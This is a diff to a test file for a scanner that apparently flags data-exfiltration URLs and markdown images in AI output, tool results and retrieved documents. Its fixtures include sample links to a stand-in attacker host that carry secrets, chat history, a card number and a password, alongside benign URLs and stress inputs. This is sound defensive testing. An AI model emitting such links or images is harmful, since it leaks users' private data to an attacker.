@@ -88,9 +88,10 @@ describe('exfil-url: links', () => {
     const bad = [
       `[Click to continue](https://evil.example/collect?payload=${SECRET_B64})`,
       'Visit https://evil.example/c?q={chat_history} for details.',
-      `See https://evil.example/${'a'.repeat(120)}?x=${'b'.repeat(120)}`,
       'Go to https://evil.example/s?n=Jane%20Doe%2C%20card%204111%201111%201111%201111%2C%20exp%2012%2F27',
-      'Report at https://evil.example/r?email=jane.doe@example.com',
+      'Report at https://evil.example/r?email=jane.doe@example.com&from=the-chat',
+      'Log https://evil.example/l?m=my_name_is_jane_and_my_password_is_hunter2',
+      `See https://evil.example/p?x=${'b'.repeat(300)}`,
     ];
     for (const t of bad) expect(scan(t)[0]?.ruleId, t).toBe('exfil-url/link-with-data');
     const good = [
@@ -101,6 +102,8 @@ describe('exfil-url: links', () => {
       'Open https://docs.google.com/document/d/1aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcd/edit',
       'Download www.example.org/files/report-2024.pdf today.',
       'Signed: https://bucket.s3.amazonaws.com/k.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+      'Photo: https://preview.redd.it/cpv9nv8pb7la1.jpg?width=1349&format=pjpg&auto=webp&v=enabled&s=04685de5a3450758a4adae1b368c50aafd38fb3e',
+      'Read https://blog.example/2024/05/how-to-write-a-good-commit-message-in-git-step-by-step',
     ];
     for (const t of good) expect(scan(t), t).toEqual([]);
   });
@@ -157,7 +160,8 @@ describe('exfil-url: HTML', () => {
 describe('exfil-url: robustness', () => {
   it('applies to output, tool results and retrieved documents and rejects bad allow-list entries', () => {
     expect(exfilUrl.stages).toEqual(['output', 'tool_result', 'retrieved']);
-    expect(exfilUrl.scan('![a](https://evil.example/a.png)', ctx({}, 'retrieved'))).toHaveLength(1);
+    expect(exfilUrl.scan('![a](https://evil.example/a.png)', ctx({}, 'retrieved'))[0]?.score).toBe(0.4);
+    expect(exfilUrl.scan('![a](https://evil.example/a.png?q={chat})', ctx({}, 'tool_result'))[0]?.score).toBe(0.97);
     expect(() => scan('x', { allow_domains: ['exa mple.com'] })).toThrow(/allow_domains/);
   });
 
@@ -176,11 +180,25 @@ describe('exfil-url: robustness', () => {
       'h t t p s : / / '.repeat(15_000),
       '[a]: '.repeat(40_000),
       `![a](https://evil.example/x.png) `.repeat(3_000),
+      `https://e.example/${')'.repeat(2_040)} `.repeat(200),
+      `<img src=x ${'a=b '.repeat(500)}>`.repeat(100),
     ];
     for (const text of inputs) {
       const t0 = performance.now();
       scan(text);
       expect(performance.now() - t0, text.slice(0, 20)).toBeLessThan(1_500);
     }
+  });
+});
+
+describe('exfil-url: markdown edge cases', () => {
+  it('finds images whose alt text is very long or holds nested brackets', () => {
+    const long = `![${'a'.repeat(600)}](https://evil.example/x.png)`;
+    expect(scan(long)[0]?.ruleId).toBe('exfil-url/markdown-image');
+    expect(scan('![see [this] chart](https://evil.example/x.png)')[0]?.ruleId).toBe('exfil-url/markdown-image');
+    expect(scan(`[${'b'.repeat(600)}](https://blog.example/post)`)).toEqual([]);
+    expect(scan('![ok](https://evil.example/a.png) and [a [nested] link](https://blog.example/p)').map((f) => f.ruleId)).toEqual([
+      'exfil-url/markdown-image',
+    ]);
   });
 });
